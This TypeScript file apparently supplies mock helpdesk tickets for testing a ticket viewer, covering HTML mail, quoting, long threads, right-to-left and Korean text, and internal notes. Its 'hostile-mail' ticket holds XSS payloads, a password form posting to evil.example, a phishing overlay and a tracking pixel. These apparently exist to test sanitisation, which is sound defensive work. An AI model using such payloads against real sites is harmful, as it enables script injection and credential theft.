import type { MemoryFile, MemoryMessage, MemoryTicket } from './data.ts';

const ALICE = 'alice@acme.example';
const BOB = 'bob@acme.example';
const CAROL = 'carol@globex.example';
const AGNES = 'agnes@desk.example';
const MAX = 'max@desk.example';

const HOUR = 3_600_000;

/** A red dot, 5 × 5 pixels. */
const PNG = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg=='), (letter) => letter.charCodeAt(0));

const file = (name: string, type: string, content: MemoryFile['content']): MemoryFile => ({ name, type, content });

/** The tickets with a point, each told by hours before now. */
export function conversations(now: number): MemoryTicket[] {
  const at = (hoursAgo: number): string => new Date(now - hoursAgo * HOUR).toISOString();
  const says = (author: string, hoursAgo: number, content: Omit<MemoryMessage, 'visibility' | 'author' | 'created'>): MemoryMessage =>
    ({ visibility: 'public', author, created: at(hoursAgo), ...content });
  const notes = (author: string, hoursAgo: number, text: string): MemoryMessage =>
    ({ visibility: 'internal', author, created: at(hoursAgo), text: `INTERNAL-ONLY: ${text}` });

  return [
    {
      key: 'login-loop', subject: 'Sign-in loops back to the start page', requester: ALICE, stage: 'waiting', created: at(52),
      fields: { 'product': 'cloud', 'component': 'login', 'severity': 'high', 'order': 'ORD-123456', 'seats': 12, 'since': '2026-11-01', 'browsers': ['chrome', 'safari'], 'callback': true, 'root-cause': 'INTERNAL-ONLY: cookie of the proxy' },
      messages: [
        says(ALICE, 52, {
          text: 'After I enter my password I land on the start page again, signed out. It started this morning for all of us.', channel: 'form',
          files: [file('screenshot.png', 'image/png', PNG), file('console.txt', 'text/plain', 'SameSite=Lax cookie blocked\n')],
        }),
        notes(AGNES, 51, 'known bug, see the internal ticket'),
        says(AGNES, 50, { text: 'Hello Alice,\n\nthank you for the screenshot. Does it also happen in a private window?\n\nAgnes' }),
        says(ALICE, 49, { text: 'No! In a private window it works.', channel: 'portal' }),
        notes(MAX, 30, 'asked the platform team'),
        says(AGNES, 4, { text: 'Then an old cookie is in the way. Please remove the cookies of portal.example and tell us whether that helps.' }),
      ],
    },
    {
      key: 'html-mail', subject: 'Re: Your order ORD-204417', requester: ALICE, queue: 'billing', stage: 'in-progress', created: at(98), cc: [BOB], fields: { product: 'billing', component: 'invoice' },
      messages: [
        says(ALICE, 98, {
          html: '<div dir="ltr"><p>Hello,</p><p>the <b>second line</b> of our order is missing:</p><table border="1" cellpadding="4"><tr><th>Article</th><th>Pieces</th></tr><tr><td>Widget L</td><td align="right">40</td></tr><tr><td><s>Widget XL</s></td><td align="right">12</td></tr></table><p>See the picture: <img src="cid:label@acme" alt="the label"></p><p>Alice</p></div>',
          files: [{ name: 'label.png', type: 'image/png', content: PNG, contentId: 'label@acme' }],
        }),
        says(MAX, 90, { html: '<p>Hello Alice,</p><p>we are sending the missing pieces <a href="https://shop.example/track/204417">today</a>.</p><ul><li>12 × Widget XL</li><li>one extra for the trouble</li></ul>', text: 'We are sending the missing pieces today.' }),
        says(ALICE, 70, {
          html: '<div>They have arrived, but two are broken.</div><br><div class="gmail_quote"><div class="gmail_attr">On Monday, Max wrote:</div><blockquote class="gmail_quote"><p>Hello Alice,</p><p>we are sending the missing pieces today.</p><blockquote><p>the <b>second line</b> of our order is missing</p></blockquote></blockquote></div>',
        }),
        says(BOB, 69, { text: 'I have photos of the broken ones.\n\n> They have arrived, but two are broken.\n>> we are sending the missing pieces today.', files: [file('견적서 사진.jpg', 'image/jpeg', PNG), file('Rechnung Nº 42 – März.pdf', 'application/pdf', '%PDF-1.4 sample')] }),
      ],
    },
    {
      key: 'hostile-mail', subject: '<img src=x onerror=alert(1)> & "quotes"', requester: BOB, stage: 'new', created: at(20),
      messages: [
        says(BOB, 20, {
          html: '<script>alert(1)</script><p onclick="alert(2)">Please <a href="javascript:alert(3)">click here</a>.</p><style>body { display: none }</style><iframe src="https://evil.example"></iframe><svg onload="alert(4)"></svg><form action="https://evil.example"><input name="password"></form><div style="position:fixed;inset:0;background:red">Your session has ended</div><img src="https://evil.example/pixel.gif" alt="">',
          files: [file('<svg onload=alert(1)>.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"/>'), file('page.html', 'text/html', '<script>alert(6)</script>')],
        }),
      ],
    },
    {
      key: 'long-thread', subject: 'Migration of our archive, step by step', requester: ALICE, stage: 'in-progress', created: at(400),
      messages: Array.from({ length: 64 }, (_, index) => index % 8 === 7
        ? notes(MAX, 399 - index * 6, `step ${String(index)} checked`)
        : says(index % 2 === 0 ? ALICE : MAX, 399 - index * 6, { text: index % 2 === 0 ? `Step ${String(index + 1)} is done, what is next?` : `Good. Next is step ${String(index + 2)}: copy the folder and compare the sums.` })),
    },
    {
      key: 'korean', subject: '로그인 후 화면이 비어 있습니다', requester: CAROL, stage: 'waiting', created: at(30),
      messages: [
        says(CAROL, 30, { text: '로그인하면 빈 화면만 보입니다. 첨부한 파일을 확인해 주세요.', files: [file('화면 캡처.png', 'image/png', PNG)] }),
        says(AGNES, 26, { text: '안녕하세요. 어떤 브라우저를 사용하시나요?' }),
      ],
    },
    {
      key: 'arabic', subject: 'الفاتورة لا تظهر في حسابي', requester: CAROL, stage: 'new', created: at(11),
      messages: [says(CAROL, 11, { text: 'مرحبًا،\n\nلا أرى فاتورة الشهر الماضي (INV-2026-10) في حسابي.\n\nشكرًا', files: [file('فاتورة.pdf', 'application/pdf', '%PDF-1.4 sample')] })],
    },
    {
      key: 'solved', subject: 'How do I add a colleague?', requester: ALICE, stage: 'solved', created: at(600),
      messages: [
        says(ALICE, 600, { text: 'Where can I invite a colleague?', channel: 'portal' }),
        says(AGNES, 598, { text: 'Under Settings, People, Invite. Have a nice day!' }),
        says(ALICE, 597, { text: 'Found it, thank you.' }),
      ],
    },
    {
      key: 'rejected', subject: 'Please support Netscape 4', requester: BOB, stage: 'rejected', created: at(900), locked: true,
      messages: [says(BOB, 900, { text: 'It would mean a lot to us.' }), says(MAX, 880, { text: 'We are sorry, but we cannot.' })],
    },
    {
      key: 'unknown-status', subject: 'Delivery to our second office', requester: ALICE, stage: 'with-carrier', created: at(75),
      messages: [says(ALICE, 75, { text: 'Can you deliver to the second office instead?', channel: 'phone' }), says(MAX, 74, { text: 'The carrier has been asked.' })],
    },
    {
      key: 'long-words', subject: `Supercalifragilistic${'-expialidocious'.repeat(9)} ${'w'.repeat(60)}`, requester: BOB, stage: 'in-progress', created: at(140), cc: [ALICE],
      messages: [says(BOB, 140, { text: `https://example.com/${'a-very-long-path/'.repeat(20)}\n\n${'x'.repeat(400)}` })],
    },
    {
      key: 'two-threads', subject: 'Refund of the spring order', requester: BOB, queue: 'billing', stage: 'waiting', created: at(160), fields: { product: 'billing', topic: 'refund', order: 'ORD-300112' },
      messages: [
        says(BOB, 160, { text: 'When do I get my money back?' }),
        says(AGNES, 155, { text: 'Within a week. To which account shall we send it?' }),
        says(BOB, 150, { text: 'I ask here in the chat as well: has it been sent?', channel: 'chat', thread: 'chat', files: [file('chat.txt', 'text/plain', 'Bob: has it been sent?\n')] }),
        says(MAX, 149, { text: 'Not yet, Agnes needs the number of your account.', channel: 'chat', thread: 'chat' }),
        notes(MAX, 148, 'the account on file is closed'),
      ],
    },
    { key: 'phone-call', subject: 'Call about the warranty', requester: CAROL, stage: 'new', created: at(8), messages: [notes(AGNES, 8, 'called, wants an offer for three more years')] },
  ];
}
